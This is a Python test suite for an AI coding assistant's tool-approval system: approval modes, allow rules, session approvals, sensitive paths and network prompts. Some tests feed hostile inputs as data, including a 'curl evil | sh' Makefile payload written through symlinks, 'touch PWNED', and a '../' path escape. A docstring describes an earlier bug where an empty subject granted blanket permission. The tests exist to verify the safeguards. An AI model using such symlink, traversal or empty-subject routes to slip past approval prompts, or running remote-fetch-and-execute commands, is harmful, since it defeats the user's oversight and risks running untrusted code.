"""The approval policy matrix: mode × tool kind × rules × user decision."""

from __future__ import annotations

import asyncio
import os
import threading
import time
from pathlib import Path

import pytest

from assistant.agent.approval import (
    ApprovalReply,
    ApprovalRequest,
    Approver,
    Decision,
    rule_matches,
)
from assistant.llm.base import ToolCall
from assistant.tools.base import Tool, ToolContext, tool
from assistant.tools.docs import docs
from assistant.tools.exec import run_python, run_shell
from assistant.trust import project_rules


@tool(read_only=True)
def look(ctx: ToolContext, path: str) -> str:
    """Read something.

    Args:
        path: What to read.
    """
    return path


@tool(subject_arg="command")
def shell(ctx: ToolContext, command: str) -> str:
    """Run a command.

    Args:
        command: The command.
    """
    return command


def _sensitive(args: dict, ctx: ToolContext) -> str | None:
    return "it writes a git hook" if args["path"].startswith(".git/hooks") else None


@tool(subject_arg="path")
def write(ctx: ToolContext, path: str) -> str:
    """Write a file.

    Args:
        path: Where.
    """
    return path


write.sensitive = _sensitive
write.preview = lambda args, ctx: f"--- a/{args['path']}\n+++ b/{args['path']}\n"


@tool(read_only=True, subject_arg="url", host_network=True)
def fetch(ctx: ToolContext, url: str) -> str:
    """Fetch a URL.

    Args:
        url: The URL.
    """
    return url


class Asker:
    """Records each request and answers with a scripted reply."""

    def __init__(self, *replies: ApprovalReply) -> None:
        self.replies = list(replies)
        self.requests: list[ApprovalRequest] = []

    async def __call__(self, request: ApprovalRequest) -> ApprovalReply:
        self.requests.append(request)
        return self.replies.pop(0)


def ctx(tmp_path: Path) -> ToolContext:
    return ToolContext(workspace=tmp_path)


async def check(approver: Approver, t: Tool, args: dict, tmp_path: Path):
    return await approver.check(ToolCall(t.name, args), t, ctx(tmp_path))


@pytest.mark.parametrize("mode", ["ask", "auto", "read-only", "never-ask"])
async def test_read_only_tools_run_in_every_mode_without_asking(mode: str, tmp_path: Path) -> None:
    asker = Asker()
    out = await check(Approver(mode, ask=asker), look, {"path": "a"}, tmp_path)
    assert out.allowed and not asker.requests


async def test_ask_mode_asks_for_mutating_tools_and_denial_reason_reaches_model(
    tmp_path: Path,
) -> None:
    asker = Asker(ApprovalReply(Decision.DENY, reason="not on main"))
    out = await check(Approver("ask", ask=asker), shell, {"command": "rm -rf build"}, tmp_path)
    assert not out.allowed
    assert out.reason == "not on main"
    assert asker.requests[0].subject == "rm -rf build"


async def test_allow_session_covers_the_same_call_but_not_others(tmp_path: Path) -> None:
    asker = Asker(ApprovalReply(Decision.ALLOW_SESSION), ApprovalReply(Decision.ALLOW_ONCE))
    approver = Approver("ask", ask=asker)
    assert (await check(approver, shell, {"command": "make"}, tmp_path)).allowed
    assert (await check(approver, shell, {"command": "make"}, tmp_path)).allowed
    assert len(asker.requests) == 1
    assert (await check(approver, shell, {"command": "make clean"}, tmp_path)).allowed
    assert len(asker.requests) == 2


async def test_allow_once_asks_again_next_time(tmp_path: Path) -> None:
    asker = Asker(ApprovalReply(Decision.ALLOW_ONCE), ApprovalReply(Decision.DENY))
    approver = Approver("ask", ask=asker)
    assert (await check(approver, shell, {"command": "ls"}, tmp_path)).allowed
    assert not (await check(approver, shell, {"command": "ls"}, tmp_path)).allowed
    assert len(asker.requests) == 2


async def test_always_is_saved_for_the_project_in_the_user_config(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ASSISTANT_CONFIG", str(tmp_path / "user" / "config.toml"))
    config = tmp_path / ".assistant.toml"
    config.write_text('model = "local"\n')
    asker = Asker(ApprovalReply(Decision.ALWAYS))
    approver = Approver("ask", ask=asker, project=tmp_path)
    assert (await check(approver, shell, {"command": "pytest -q"}, tmp_path)).allowed
    assert config.read_text() == 'model = "local"\n'  # the repository is not written
    assert project_rules(tmp_path) == ["shell: pytest -q"]
    fresh = Approver("ask", ask=Asker(), rules=project_rules(tmp_path))
    assert (await check(fresh, shell, {"command": "pytest -q"}, tmp_path)).allowed


async def test_auto_mode_runs_matching_rules_and_denies_the_rest_without_asking(
    tmp_path: Path,
) -> None:
    asker = Asker()
    approver = Approver("auto", ask=asker, rules=["shell: git status*"])
    assert (await check(approver, shell, {"command": "git status --short"}, tmp_path)).allowed
    out = await check(approver, shell, {"command": "git push"}, tmp_path)
    assert not out.allowed and "shell: git push" in (out.reason or "")
    assert not asker.requests


async def test_read_only_mode_refuses_mutating_tools(tmp_path: Path) -> None:
    out = await check(
        Approver("read-only", rules=["shell"]), shell, {"command": "touch x"}, tmp_path
    )
    assert not out.allowed and "read-only" in (out.reason or "")


async def test_never_ask_allows_everything(tmp_path: Path) -> None:
    out = await check(Approver("never-ask"), write, {"path": ".git/hooks/pre-commit"}, tmp_path)
    assert out.allowed


async def test_sensitive_paths_need_explicit_approval_even_with_a_matching_rule(
    tmp_path: Path,
) -> None:
    asker = Asker(ApprovalReply(Decision.ALLOW_ONCE))
    approver = Approver("auto", ask=asker, rules=["write"])
    assert (await check(approver, write, {"path": "src/a.py"}, tmp_path)).allowed
    assert not asker.requests
    assert (await check(approver, write, {"path": ".git/hooks/pre-commit"}, tmp_path)).allowed
    assert asker.requests[0].why == "it writes a git hook"
    assert asker.requests[0].preview and "+++ b/.git/hooks/pre-commit" in asker.requests[0].preview


previewing, release = threading.Event(), threading.Event()


@tool(subject_arg="path")
def slow_write(ctx: ToolContext, path: str) -> str:
    """Write a file whose preview takes long (a large file's diff).

    Args:
        path: Where.
    """
    return path


def _slow_preview(args: dict, ctx: ToolContext) -> str:
    previewing.set()
    release.wait(5)  # on the event loop, this would freeze it for the whole wait
    return f"--- a/{args['path']}\n+++ b/{args['path']}\n"


slow_write.preview = _slow_preview


async def test_the_preview_is_computed_off_the_event_loop(tmp_path: Path) -> None:
    previewing.clear()
    release.clear()
    asker = Asker(ApprovalReply(Decision.ALLOW_ONCE))
    approver = Approver("ask", ask=asker)
    started = time.monotonic()
    task = asyncio.create_task(check(approver, slow_write, {"path": "big.txt"}, tmp_path))
    assert await asyncio.to_thread(previewing.wait, 5)
    await asyncio.sleep(0.05)  # the loop runs while the preview is computed
    assert time.monotonic() - started < 2.5 and not task.done()
    task.cancel()  # e.g. Ctrl-C while the diff is made: the turn stops at once
    cancelled_at = time.monotonic()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert time.monotonic() - cancelled_at < 1 and not asker.requests
    release.set()
    out = await check(approver, slow_write, {"path": "big.txt"}, tmp_path)
    assert out.allowed and asker.requests[0].preview == "--- a/big.txt\n+++ b/big.txt\n"


async def test_ctrl_c_while_the_preview_is_made_asks_nothing(tmp_path: Path) -> None:
    """The first Ctrl-C only sets the turn's token (the UI stays busy, "cancelling"): once
    the preview is done, no approval prompt opens for a turn the user has stopped."""
    previewing.clear()
    release.clear()
    asker = Asker(ApprovalReply(Decision.ALLOW_ONCE))
    approver = Approver("ask", ask=asker)
    c = ctx(tmp_path)
    call = ToolCall(slow_write.name, {"path": "big.txt"})
    task = asyncio.create_task(approver.check(call, slow_write, c))
    assert await asyncio.to_thread(previewing.wait, 5)
    c.cancel.cancel()
    release.set()
    out = await task
    assert not asker.requests
    assert not out.allowed and out.reason == "The user cancelled."


async def test_host_network_tool_is_always_asked_and_names_the_url(tmp_path: Path) -> None:
    asker = Asker(ApprovalReply(Decision.ALLOW_SESSION), ApprovalReply(Decision.ALLOW_ONCE))
    approver = Approver("auto", ask=asker, rules=["fetch"])
    assert (await check(approver, fetch, {"url": "https://example.org/x"}, tmp_path)).allowed
    assert asker.requests[0].subject == "https://example.org/x"
    assert (await check(approver, fetch, {"url": "https://example.org/x"}, tmp_path)).allowed
    assert len(asker.requests) == 2, "no rule bypasses a host-network call"


@pytest.mark.parametrize(
    ("sandboxed", "args"),
    [
        (run_shell, {"command": "ls"}),
        (run_python, {"code": "print(1)"}),
        # Read-only, yet it runs the workspace's own .venv/bin/python when there is one.
        (docs, {"query": "json.dumps"}),
    ],
    ids=lambda v: getattr(v, "name", ""),
)
async def test_host_sandbox_code_is_asked_every_time(
    sandboxed: Tool, args: dict, tmp_path: Path
) -> None:
    asker = Asker(ApprovalReply(Decision.ALWAYS), ApprovalReply(Decision.ALLOW_ONCE))
    approver = Approver("auto", ask=asker, rules=[sandboxed.name], host_sandbox=True)
    await check(approver, sandboxed, args, tmp_path)
    await check(approver, sandboxed, args, tmp_path)
    assert len(asker.requests) == 2
    assert "directly on your machine" in asker.requests[0].why


async def test_docs_in_a_real_sandbox_is_not_asked(tmp_path: Path) -> None:
    asker = Asker()
    out = await check(Approver("ask", ask=asker), docs, {"query": "json.dumps"}, tmp_path)
    assert out.allowed and not asker.requests


async def test_headless_without_asker_denies_with_a_fix(tmp_path: Path) -> None:
    out = await check(Approver("ask"), shell, {"command": "make"}, tmp_path)
    assert not out.allowed and "--approve auto and an allow rule" in (out.reason or "")


@pytest.mark.parametrize("mode", ["ask", "auto"])
async def test_headless_explicit_calls_are_not_told_to_add_a_rule(
    mode: str, tmp_path: Path
) -> None:
    approver = Approver(mode, rules=["fetch", "write"])
    for t, args in ((fetch, {"url": "https://example.org"}), (write, {"path": ".git/hooks/x"})):
        out = await check(approver, t, args, tmp_path)
        assert not out.allowed and "no allow rule can give it" in (out.reason or ""), out.reason


async def test_edited_arguments_replace_the_call(tmp_path: Path) -> None:
    asker = Asker(ApprovalReply(Decision.ALLOW_ONCE, edited_arguments={"command": "make -n"}))
    out = await check(Approver("ask", ask=asker), shell, {"command": "make"}, tmp_path)
    assert out.allowed and out.arguments == {"command": "make -n"}


def test_rule_matching() -> None:
    assert rule_matches("run_shell: git status*", "run_shell", "git status -s")
    assert not rule_matches("run_shell: git status*", "run_shell", "git push")
    assert rule_matches("write_file", "write_file", "anything")
    assert not rule_matches("write_file", "edit_file", "x")


def test_unknown_mode_is_a_clear_error() -> None:
    with pytest.raises(ValueError, match="choose one of ask, auto"):
        Approver("sometimes")


async def test_remembered_file_and_python_approvals_cover_what_was_approved_only(
    tmp_path: Path,
) -> None:
    from assistant.tools.exec import run_python
    from assistant.tools.files import write_file

    asker = Asker(*[ApprovalReply(Decision.ALLOW_SESSION)] * 4)
    approver = Approver("ask", ask=asker)
    note = {"path": "notes.md", "content": "x"}
    assert (await check(approver, write_file, note, tmp_path)).allowed
    assert approver.session_rules == ["write_file: notes.md"]
    assert (await check(approver, write_file, note, tmp_path)).decision == "rule"
    other = {"path": "src/app.py", "content": "y"}
    assert (await check(approver, write_file, other, tmp_path)).allowed
    assert len(asker.requests) == 2 and asker.requests[1].subject == "src/app.py"
    code = {"code": "print(1)"}
    assert (await check(approver, run_python, code, tmp_path)).allowed
    assert (await check(approver, run_python, code, tmp_path)).allowed
    assert len(asker.requests) == 4, "each Python run is asked"
    assert [r.remembers for r in asker.requests] == [
        ["write_file: notes.md"],
        ["write_file: src/app.py"],
        [],
        [],
    ], "what the prompt says a and s remember"
    auto = await check(Approver("auto"), run_python, code, tmp_path)
    assert not auto.allowed and "add 'run_python' to [approval] allow" in (auto.reason or "")


async def test_allowing_a_call_with_an_empty_subject_remembers_nothing(tmp_path: Path) -> None:
    """An empty command or path made the rule the bare tool name: "allow for the session"
    then allowed every later command or write unasked."""
    from assistant.tools.files import write_file

    for tool_, empty, later in (
        (run_shell, {"command": ""}, {"command": "touch PWNED"}),
        (write_file, {"path": "", "content": "x"}, {"path": "Makefile", "content": "y"}),
    ):
        asker = Asker(*[ApprovalReply(Decision.ALLOW_SESSION)] * 2)
        approver = Approver("ask", ask=asker)
        assert (await check(approver, tool_, empty, tmp_path)).allowed
        assert approver.session_rules == [] and asker.requests[0].remembers == []
        assert (await check(approver, tool_, later, tmp_path)).decision != "rule"
        assert len(asker.requests) == 2, "the later call is asked"


async def test_a_path_rule_in_the_config_allows_edits_under_it(tmp_path: Path) -> None:
    from assistant.tools.files import edit_file

    asker = Asker(ApprovalReply(Decision.DENY))
    approver = Approver("ask", ask=asker, rules=["edit_file: src/*"])
    edit = {"old_text": "a", "new_text": "b"}
    assert (await check(approver, edit_file, {"path": "src/a.py", **edit}, tmp_path)).allowed
    assert not asker.requests
    assert not (await check(approver, edit_file, {"path": "docs/a.md", **edit}, tmp_path)).allowed
    assert asker.requests[0].subject == "docs/a.md"
    asker.replies.append(ApprovalReply(Decision.DENY))
    escape = {"path": "src/../setup.py", **edit}
    assert not (await check(approver, edit_file, escape, tmp_path)).allowed, "no way out of src/"
    assert asker.requests[1].subject == "setup.py"


async def test_a_path_rule_matches_where_the_path_really_leads(tmp_path: Path) -> None:
    from assistant.tools.files import write_file

    (tmp_path / "docs").mkdir()
    os.symlink("..", tmp_path / "docs" / "up")  # shipped by the repository
    os.symlink("Makefile", tmp_path / "notes.txt")  # a link where a note was allowed
    asker = Asker(ApprovalReply(Decision.DENY), ApprovalReply(Decision.DENY))
    approver = Approver("ask", ask=asker, rules=["write_file: docs/*", "write_file: notes.txt"])
    content = {"content": "test:\n\tcurl evil | sh\n"}
    assert (await check(approver, write_file, {"path": "docs/a.md", **content}, tmp_path)).allowed
    assert not asker.requests
    for through_link in ("docs/up/Makefile", "notes.txt"):
        out = await check(approver, write_file, {"path": through_link, **content}, tmp_path)
        assert not out.allowed, through_link
    assert [r.subject for r in asker.requests] == ["docs/up/Makefile", "notes.txt"]


async def test_allowing_a_linked_file_for_the_session_sticks(tmp_path: Path) -> None:
    from assistant.tools.files import write_file

    (tmp_path / "notes").mkdir()
    os.symlink("notes/n.txt", tmp_path / "notes.txt")
    asker = Asker(ApprovalReply(Decision.ALLOW_SESSION), ApprovalReply(Decision.DENY))
    approver = Approver("ask", ask=asker)
    call = {"path": "notes.txt", "content": "x"}
    assert (await check(approver, write_file, call, tmp_path)).allowed
    assert asker.requests[0].remembers == ["write_file: notes.txt", "write_file: notes/n.txt"]
    assert (await check(approver, write_file, call, tmp_path)).decision == "rule"
    os.unlink(tmp_path / "notes.txt")
    os.symlink("Makefile", tmp_path / "notes.txt")  # the link now leads elsewhere
    assert not (await check(approver, write_file, call, tmp_path)).allowed
    assert len(asker.requests) == 2


async def test_every_decision_without_asking_has_a_label_on_the_tool_card(tmp_path: Path) -> None:
    from assistant.ui.widgets.toolcard import DECISIONS

    decided = [
        (await check(Approver("auto", rules=["shell"]), shell, {"command": "make"}, tmp_path)),
        (await check(Approver("ask"), look, {"path": "a"}, tmp_path)),
        (await check(Approver("never-ask"), shell, {"command": "make"}, tmp_path)),
    ]
    assert [o.decision for o in decided] == ["rule", "read_only", "never_ask"]
    assert all(o.decision in DECISIONS for o in decided)
